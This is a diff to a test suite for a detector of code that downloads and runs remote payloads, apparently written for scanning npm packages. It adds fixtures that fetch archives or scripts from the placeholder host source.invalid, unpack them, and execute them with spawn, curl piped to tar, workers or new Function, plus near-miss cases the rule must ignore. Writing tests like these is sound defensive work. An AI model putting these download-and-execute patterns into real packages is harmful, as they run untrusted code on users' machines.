@@ -6,6 +6,63 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'an archive out of memory is unpacked and a program in it started',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const Zip = require('adm-zip'); const folder = path.join(os.tmpdir(), 'x'); fetch('https://source.invalid/a').then(r => r.arrayBuffer()).then(b => { new Zip(Buffer.from(b)).extractAllTo(folder, true); cp.spawn(path.join(folder, 'run.exe')) });`,
+      },
+      says: ['starts what is in it'],
+      weight: 'strong',
+    },
+    {
+      when: 'a saved archive is unpacked by a library',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const extract = require('extract-zip'); (async () => { const file = path.join(os.tmpdir(), 'x.zip'), folder = path.join(os.tmpdir(), 'y'); const r = await fetch('https://source.invalid/a'); fs.writeFileSync(file, Buffer.from(await r.arrayBuffer())); await extract(file, { dir: folder }); cp.execFile(path.join(folder, 'run')); })();`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a download is piped into an archive and a file of it loaded',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); const tar = require('tar'); const folder = path.join(os.tmpdir(), 'y'); require('https').get('https://source.invalid/a', res => { res.pipe(tar.x({ cwd: folder })).on('finish', () => require(path.join(folder, 'index.js'))) });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a saved archive is unpacked by a command',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz', { cwd: '/tmp/y' }); require('/tmp/y/index.js') })();`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a command fetches and unpacks',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); cp.execSync('curl -sL https://source.invalid/a.tgz | tar xz -C /tmp/inert'); cp.spawn('/tmp/inert/run');`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a library fetches into a folder',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); require('download')('https://source.invalid/a', '/tmp/inert').then(() => cp.exec('/tmp/inert/a'));`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a worker of the page is made of it',
+      files: {
+        'index.js': `fetch('https://source.invalid/a').then(r => r.blob()).then(b => new Worker(URL.createObjectURL(b)));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a file of a repository is evaluated',
+      files: {
+        'index.js': `const { Octokit } = require('octokit'); new Octokit().rest.gists.get({ gist_id: 'x' }).then(({ data }) => new Function(data.files['a.js'].content)());`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a port brings it from one end to the other',
       files: {
         'index.js': `const c = new MessageChannel(); c.port1.onmessage = e => eval(e.data); fetch('https://source.invalid/a').then(r => r.text()).then(t => c.port2.postMessage(t));`,
@@ -325,6 +382,18 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'an archive is fetched and unpacked, and something else is started',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execSync('chmod 755 /tmp/y/run'); cp.execSync('git status'); fs.readFileSync('/tmp/y/data.json') })();`,
+      },
+    },
+    {
+      when: 'an archive of its own is unpacked and run',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); cp.execSync('tar xzf ' + path.join(__dirname, 'a.tgz') + ' -C /tmp/y'); cp.spawn('/tmp/y/run');`,
+      },
+    },
     {
       when: 'a thread evaluates what another thread is not sent',
       files: {
